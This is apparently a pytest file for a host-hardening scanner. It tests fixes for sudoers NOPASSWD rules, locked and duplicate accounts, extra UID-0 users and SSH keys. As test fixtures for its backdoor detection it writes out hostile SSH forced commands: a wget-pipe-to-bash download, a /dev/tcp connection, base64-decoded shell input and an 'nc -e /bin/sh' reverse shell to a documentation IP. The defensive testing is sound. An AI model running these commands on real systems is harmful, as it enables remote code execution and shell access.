"""Accounts fixes, proven by the tools that read them: sudoers edits by `visudo -c -f`, account commands by
running them (`usermod -R COPY`, `pwconv -R COPY`) on a copy of the hit tree, then `pwck -r -R` and a
re-scan. Fixes that need the owner's word (is this key, this account yours?) are manual, with the reason."""

from __future__ import annotations

import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from hostguard.engine.runner import run_scan
from hostguard.host.base import RootHost
from hostguard.remediation import Command, DeleteLine, Edit, Remediation
from hostguard.respond.apply import apply
from hostguard.store.state import StateStore
from tests.conftest import FAST, HITS, HOSTS, build_tree, make_config, need_root, need_tool, run_one
from tests.fix_validation import findings, in_tree, run_steps, usable_root

FIXES = HOSTS / "fixes" / "accounts"


def _fixes(tree: Path, check_id: str) -> dict[str, Remediation]:
    return {f.title: f.remediation for f in run_one(check_id, RootHost(str(tree)))[0]}


def _one(tree: Path, check_id: str) -> Remediation:
    [fix] = _fixes(tree, check_id).values()
    return fix


def _cmd(*argv: str, undo: tuple[str, ...] | None = None) -> Command:
    return Command(argv, live_only=False, undo=undo, reversible=undo is not None)


def _visudo(path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["visudo", "-c", "-f", str(path)], capture_output=True, text=True, check=False)


def _shadow(tree: Path, user: str) -> list[str]:
    return next(line.split(":") for line in (tree / "etc/shadow").read_text().splitlines()
                if line.startswith(f"{user}:"))


def _pwck(tree: Path) -> str:
    """`pwck -r -R tree` (read-only) output: what the shadow tools think of the tree's passwd and shadow."""
    done = in_tree(usable_root(tree), ["pwck", "-r", "-R", str(tree)])
    return done.stdout + done.stderr


def test_locked_account_keeps_nopasswd_and_is_told_to_set_a_password_first(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host", HITS / "accounts.sudo_nopasswd")
    fix = _one(tree, "accounts.sudo_nopasswd")
    assert fix.steps == ()
    assert fix.manual is not None and "deploy has no usable password" in fix.manual and "`passwd deploy`" in fix.manual


def test_a_shadow_field_of_x_is_no_password_sudo_could_ask_for(tmp_path: Path) -> None:
    """Near miss of the fix below: the account's shadow field is ``x`` (no password matches it), so removing
    NOPASSWD would lose root: the fix is by hand, as for a locked account."""
    tree = build_tree(tmp_path / "host", FIXES / "sudo_with_password")
    shadow = tree / "etc/shadow"
    lines = [":".join([f[0], "x", *f[2:]]) if f[0] == "deploy" else ":".join(f)
             for f in (line.split(":") for line in shadow.read_text().splitlines())]
    shadow.write_text("\n".join(lines) + "\n")
    assert _shadow(tree, "deploy")[1] == "x"
    fix = _one(tree, "accounts.sudo_nopasswd")
    assert fix.steps == () and fix.manual is not None and "deploy has no usable password" in fix.manual


@pytest.mark.parametrize(("fixture", "edits"), [
    ("sudo_with_password", [(2, "DEPLOYERS ALL=(ALL) NOPASSWD: ALL", "DEPLOYERS ALL=(ALL) PASSWD: ALL")]),
    # the narrow NOPASSWD command (a deploy script) keeps working; only ALL asks for the password
    ("sudo_continued", [(3, "    NOPASSWD: ALL", "    PASSWD: ALL")]),
])
def test_nopasswd_is_removed_from_its_line_and_visudo_accepts_it(tmp_path: Path, fixture: str,
                                                                 edits: list[tuple[int, str, str]]) -> None:
    need_tool("visudo")
    tree = build_tree(tmp_path / "host", FIXES / fixture)
    fix = _one(tree, "accounts.sudo_nopasswd")
    assert fix.steps == tuple(Edit("/etc/sudoers.d/deploy", line, old, new) for line, old, new in edits)
    assert _visudo(tree / "etc/sudoers.d/deploy").returncode == 0
    apply(fix.steps, str(tree))
    checked = _visudo(tree / "etc/sudoers.d/deploy")
    assert checked.returncode == 0 and "parsed OK" in checked.stdout, checked.stdout + checked.stderr
    assert "PASSWD: ALL" in (tree / "etc/sudoers.d/deploy").read_text()
    assert findings(tree, "accounts.sudo_nopasswd") == []


def test_defaults_not_authenticate_is_found_and_removed(tmp_path: Path) -> None:
    """`Defaults:deploy !authenticate` makes every rule of deploy passwordless, NOPASSWD or not."""
    need_tool("visudo")
    tree = build_tree(tmp_path / "host", FIXES / "sudo_with_password")
    rules = tree / "etc/sudoers.d/deploy"
    rules.write_text("Defaults:deploy !authenticate\ndeploy ALL=(ALL:ALL) ALL\n")
    fix = _one(tree, "accounts.sudo_nopasswd")
    assert fix.steps == (Edit("/etc/sudoers.d/deploy", 2, "deploy ALL=(ALL:ALL) ALL", "deploy ALL=(ALL:ALL) PASSWD: ALL"),
                         DeleteLine("/etc/sudoers.d/deploy", 1, "Defaults:deploy !authenticate"))
    apply(fix.steps, str(tree))
    checked = _visudo(rules)
    assert checked.returncode == 0 and "parsed OK" in checked.stdout, checked.stdout + checked.stderr
    assert rules.read_text() == "deploy ALL=(ALL:ALL) PASSWD: ALL\n"
    assert findings(tree, "accounts.sudo_nopasswd") == []
    rules.write_text("Defaults:backup !authenticate\ndeploy ALL=(ALL:ALL) ALL\n")  # near miss: another user
    assert findings(tree, "accounts.sudo_nopasswd") == []


def test_a_group_rule_is_manual_when_a_member_has_no_password(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host", FIXES / "sudo_with_password")
    (tree / "etc/sudoers.d/deploy").write_text("%ops ALL=(ALL) NOPASSWD: ALL\n")
    with (tree / "etc/group").open("a") as fh:
        fh.write("ops:x:1500:deploy,sshd\n")
    fix = _one(tree, "accounts.sudo_nopasswd")
    assert fix.steps == () and fix.manual is not None and fix.manual.startswith("sshd has no usable password")


@pytest.mark.parametrize(("check_id", "steps"), [
    ("accounts.empty_password", (_cmd("usermod", "-L", "guest"),)),
    ("accounts.passwd_only", (_cmd("pwconv"), _cmd("usermod", "-L", "bob", undo=("usermod", "-U", "bob")))),
    ("accounts.service_shell", (_cmd("usermod", "-s", "/usr/sbin/nologin", "www-data",
                                     undo=("usermod", "-s", "/bin/sh", "www-data")),
                                _cmd("usermod", "-L", "www-data", undo=("usermod", "-U", "www-data")))),
    ("accounts.duplicate", (_cmd("usermod", "-u", "1001", "backup", undo=("usermod", "-o", "-u", "1000", "backup")),)),
])
def test_commands_run_on_a_copy_remove_the_finding(tmp_path: Path, check_id: str, steps: tuple[Command, ...]) -> None:
    need_root("usermod -R and unshare --mount")
    need_tool("usermod", "pwconv", "pwck", "unshare")
    tree = build_tree(tmp_path / "host", HITS / check_id)
    fix = _one(tree, check_id)
    assert fix.steps == steps
    run_steps(fix, tree)
    assert findings(tree, check_id) == []
    report = _pwck(tree)
    assert "invalid" not in report and "no matching password file entry" not in report, report


def test_free_uid_skips_used_ones(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host", HITS / "accounts.duplicate")
    with (tree / "etc/passwd").open("a") as fh:
        fh.write("carl:x:1001:1001::/home/carl:/bin/bash\ndan:x:1002:1002::/home/dan:/bin/bash\n"
                 "mia:x:1000:1000::/home/mia:/bin/bash\n")
    fix = _one(tree, "accounts.duplicate")
    assert [s.argv for s in fix.steps if isinstance(s, Command)] == [("usermod", "-u", "1003", "backup"),
                                                                     ("usermod", "-u", "1004", "mia")]


def test_extra_uid0_is_locked_and_expired_then_left_to_the_owner(tmp_path: Path) -> None:
    need_root("usermod -R")
    need_tool("usermod", "unshare")
    tree = build_tree(tmp_path / "host", HITS / "accounts.extra_uid0")
    fix = _one(tree, "accounts.extra_uid0")
    assert fix.steps == (_cmd("usermod", "-L", "-e", "1", "toor", undo=("usermod", "-U", "-e", "-1", "toor")),)
    assert fix.manual is not None and "never with -r" in fix.manual
    run_steps(fix, tree)
    entry = _shadow(tree, "toor")
    assert entry[1].startswith("!") and entry[7] == "1"  # no password login, and expired: no key login either
    assert _shadow(tree, "root")[1] == _shadow(build_tree(tmp_path / "orig"), "root")[1]  # root untouched
    undo = in_tree(tree, ["usermod", "-R", str(tree), *fix.steps[0].undo[1:]])  # type: ignore[union-attr,index]
    assert undo.returncode == 0 and _shadow(tree, "toor")[1:8:6] == ["*", ""]


@pytest.mark.parametrize(("check_id", "path", "line", "old"), [
    ("accounts.shadow_only", "/etc/shadow", 10, "ghost:$6$abcdefgh$0123456789:20000:0:99999:7:::"),
    ("accounts.malformed_line", "/etc/passwd", 10, "backdoor:x:0:0:/root:/bin/bash"),
])
def test_stray_lines_are_deleted_and_pwck_agrees(tmp_path: Path, check_id: str, path: str, line: int,
                                                 old: str) -> None:
    need_root("pwck -R and unshare --mount")
    need_tool("pwck", "unshare")
    tree = build_tree(tmp_path / "host", HITS / check_id)
    fix = _one(tree, check_id)
    assert fix.steps == (DeleteLine(path, line, old),)
    name = old.split(":", 1)[0]
    assert name in _pwck(tree)
    apply(fix.steps, str(tree))
    assert name not in _pwck(tree)
    assert findings(tree, check_id) == []


def test_keys_are_the_owners_call_unless_the_forced_command_is_a_backdoor(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host", HITS / "accounts.ssh_key_unusual")
    found = {f.target["path"]: f for f in run_one("accounts.ssh_key_unusual", RootHost(str(tree)))[0]}
    plain, backdoor = found["/etc/ssh/keys/root"], found["/home/alice/.ssh/authorized_keys"]
    assert plain.remediation.steps == () and "Only you know whether this key is yours" in (plain.remediation.manual
                                                                                             or "")
    assert backdoor.severity == "high" and backdoor.evidence["forced_command_does"] == [
        "downloads code (curl/wget/fetch)", "pipes something into a shell or interpreter"]
    [step] = backdoor.remediation.steps
    assert isinstance(step, DeleteLine) and (step.path, step.line) == ("/home/alice/.ssh/authorized_keys", 2)
    apply(backdoor.remediation.steps, str(tree))
    assert sorted(f.target["path"] for f in run_one("accounts.ssh_key_unusual", RootHost(str(tree)))[0]) == [
        "/etc/ssh/keys/root"]


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGB9Hv2GPto6Ya1LYV6UUb5uExrNccRS+lYZV3cl9pnI"


@pytest.mark.parametrize(("options", "severity", "does"), [
    ('command="wget -qO- http://198.51.100.7/x | bash"', "high", ["downloads code (curl/wget/fetch)",
                                                                 "pipes something into a shell or interpreter"]),
    ('command="bash -c \'exec 3<>/dev/tcp/198.51.100.7/4444\'"', "high",
     ["opens a network connection from the shell (/dev/tcp, /dev/udp)"]),
    ('command="echo Y3VybA== | base64 -d | sh"', "high", ["pipes something into a shell or interpreter",
                                                          "decodes hidden code (base64)"]),
    ('command="nc -e /bin/sh 198.51.100.7 4444"', "high", ["runs a network shell (nc/ncat/socat/telnet)"]),
    # near misses: ordinary forced commands and restrictions
    ('command="/usr/bin/rrsync -ro /srv/backup",restrict', "info", []),
    ('command="borg serve --restrict-to-path /srv/borg"', "info", []),
    ('from="198.51.100.0/24"', "info", []),
])
def test_forced_command_that_runs_code_is_a_backdoor(tmp_path: Path, options: str, severity: str,
                                                     does: list[str]) -> None:
    tree = build_tree(tmp_path / "host")
    keys = tree / "home/alice/.ssh/authorized_keys"
    keys.parent.mkdir(parents=True, exist_ok=True)
    keys.write_text(f"{options} {KEY} alice@laptop\n")
    [finding] = run_one("accounts.ssh_key_unusual", RootHost(str(tree)))[0]
    assert (finding.severity, finding.evidence["forced_command_does"]) == (severity, does)


def test_from_star_restricts_nothing(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host")
    keys = tree / "home/alice/.ssh/authorized_keys"
    keys.parent.mkdir(parents=True, exist_ok=True)
    keys.write_text(f'from="*" {KEY} alice@laptop\nfrom="*,!198.51.100.9" {KEY} alice@desk\n')
    titles = [f.title for f in run_one("accounts.ssh_key_unusual", RootHost(str(tree)))[0]]
    assert 'from="*" allows every address (restricts nothing)' in titles[0]
    assert "restricts nothing" not in titles[1] and 'from="*,!198.51.100.9"' in titles[1]


@pytest.mark.parametrize(("shadow", "keys", "severity", "locks"), [
    ("!$6$saltsalt$x", False, "low", False),    # locked password, no key: su, cron, a webshell's planted key
    ("!$6$saltsalt$x", True, "medium", False),  # locked password but a key sshd may accept
    ("$6$saltsalt$x", False, "medium", True),   # a password
])
def test_service_account_with_a_shell(tmp_path: Path, shadow: str, keys: bool, severity: str, locks: bool) -> None:
    tree = build_tree(tmp_path / "host")
    for name, old, new in (("passwd", "/var/www:/usr/sbin/nologin", "/var/www:/bin/sh"),
                           ("shadow", "www-data:*:", f"www-data:{shadow}:")):
        path = tree / "etc" / name
        path.write_text(path.read_text().replace(old, new))
    if keys:
        (tree / "var/www/.ssh").mkdir(parents=True)
        (tree / "var/www/.ssh/authorized_keys").write_text(f"{KEY} deploy@ci\n")
    [finding] = run_one("accounts.service_shell", RootHost(str(tree)))[0]
    assert finding.severity == severity
    assert [s.argv[:2] for s in finding.remediation.steps if isinstance(s, Command)] == (
        [("usermod", "-s"), ("usermod", "-L")] if locks else [("usermod", "-s")])
    assert ("/var/www/.ssh/authorized_keys:1" in finding.remediation.summary) == keys


@pytest.mark.parametrize("shell", ["/usr/sbin/nologin", "/bin/false", "/bin/sync", "/sbin/shutdown", "/sbin/halt"])
def test_service_account_without_a_real_shell_is_quiet(tmp_path: Path, shell: str) -> None:
    tree = build_tree(tmp_path / "host")
    for name, old, new in (("passwd", "/var/www:/usr/sbin/nologin", f"/var/www:{shell}"),
                           ("shadow", "www-data:*:", "www-data:$6$saltsalt$x:")):
        path = tree / "etc" / name
        path.write_text(path.read_text().replace(old, new))
    assert run_one("accounts.service_shell", RootHost(str(tree)))[0] == []


def test_duplicate_names_are_the_owners_call(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host")
    with (tree / "etc/passwd").open("a") as fh:
        fh.write("alice:x:0:0::/root:/bin/bash\n")
    fixes = {t: f for t, f in _fixes(tree, "accounts.duplicate").items() if "appears" in t}
    [fix] = fixes.values()
    assert fix.steps == () and fix.manual is not None and "(lines 9, 10)" in fix.summary


def test_a_guessable_password_is_changed_by_its_owner(tmp_path: Path) -> None:
    """weak_passwords.system: only the owner can choose the new password or know that nobody logs in with it."""
    tree = build_tree(tmp_path / "host", HITS / "weak_passwords.system")
    fixes = {f.target["user"]: f.remediation for f in run_one("weak_passwords.system", RootHost(str(tree)))[0]}
    fix = fixes["ftpuser"]
    assert fix.steps == () and fix.manual is not None and "take away a user's sudo" in fix.manual
    assert "`passwd ftpuser`" in fix.summary and "`passwd -l ftpuser`" in fix.summary
    assert [p.name for p in fix.params] == ["password"]


def test_empty_password_fix_names_the_nullok_that_lets_it_in(tmp_path: Path) -> None:
    """With `nullok` on pam_unix's auth line the empty password logs in with nothing typed: the fix says where.
    Near miss: the clean tree's common-auth has no nullok, and the fix does not mention it."""
    tree = build_tree(tmp_path / "host", HITS / "accounts.empty_password")
    [plain] = [f for f in run_one("accounts.empty_password", RootHost(str(tree)))[0] if f.target["user"] == "guest"]
    assert "nullok" not in plain.remediation.summary and plain.evidence["nullok"] == []
    auth = tree / "etc/pam.d/common-auth"
    auth.write_text(auth.read_text().replace("pam_unix.so try_first_pass", "pam_unix.so nullok try_first_pass"))
    [found] = [f for f in run_one("accounts.empty_password", RootHost(str(tree)))[0] if f.target["user"] == "guest"]
    assert "through pam_unix's `nullok` (/etc/pam.d/common-auth line 2: password_policy.pam_nullok)" in \
        found.remediation.summary
    assert found.evidence["nullok"] == ["/etc/pam.d/common-auth:2"]


def test_a_changed_key_gets_its_options_back_and_ssh_keygen_still_reads_the_file(tmp_path: Path) -> None:
    """accounts.ssh_key_new, a known key whose from= was dropped for a forced command: the fix edits the line back
    to the options it had (the key, type and comment as written), `ssh-keygen -l -f` still lists the same keys,
    and a re-scan is quiet (putting the options back ends the change). Scans through a real state directory."""
    need_tool("ssh-keygen")
    tree = build_tree(tmp_path / "host")
    keys = tree / "home/alice/.ssh/authorized_keys"
    original = keys.read_text().strip()
    restricted = f'from="198.51.100.0/24",no-pty {original}'
    keys.write_text(restricted + "\n")
    state = StateStore(str(tmp_path / "state"))
    t0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)

    def changed(at: datetime) -> list[Remediation]:
        outcome = run_scan(RootHost(str(tree)), make_config(**FAST), state, only=["accounts"], started=at)
        return [f.remediation for f in outcome.report.findings if f.id == "accounts.ssh_key_new"]

    try:
        assert changed(t0) == []
        backdoor = f'command="nc -e /bin/sh 198.51.100.7 4444" {original}'
        keys.write_text(backdoor + "\n")
        [fix] = changed(t0 + timedelta(hours=1))
        assert fix.steps == (Edit("/home/alice/.ssh/authorized_keys", 1, backdoor,
                                  f'from="198.51.100.0/24",no-pty {original}'),)
        listed = subprocess.run(["ssh-keygen", "-l", "-f", str(keys)], capture_output=True, text=True, check=False)
        apply(fix.steps, str(tree))
        after = subprocess.run(["ssh-keygen", "-l", "-f", str(keys)], capture_output=True, text=True, check=False)
        assert after.returncode == 0 and after.stdout == listed.stdout, after.stderr
        assert keys.read_text() == restricted + "\n"
        assert changed(t0 + timedelta(hours=2)) == []
    finally:
        state.close()
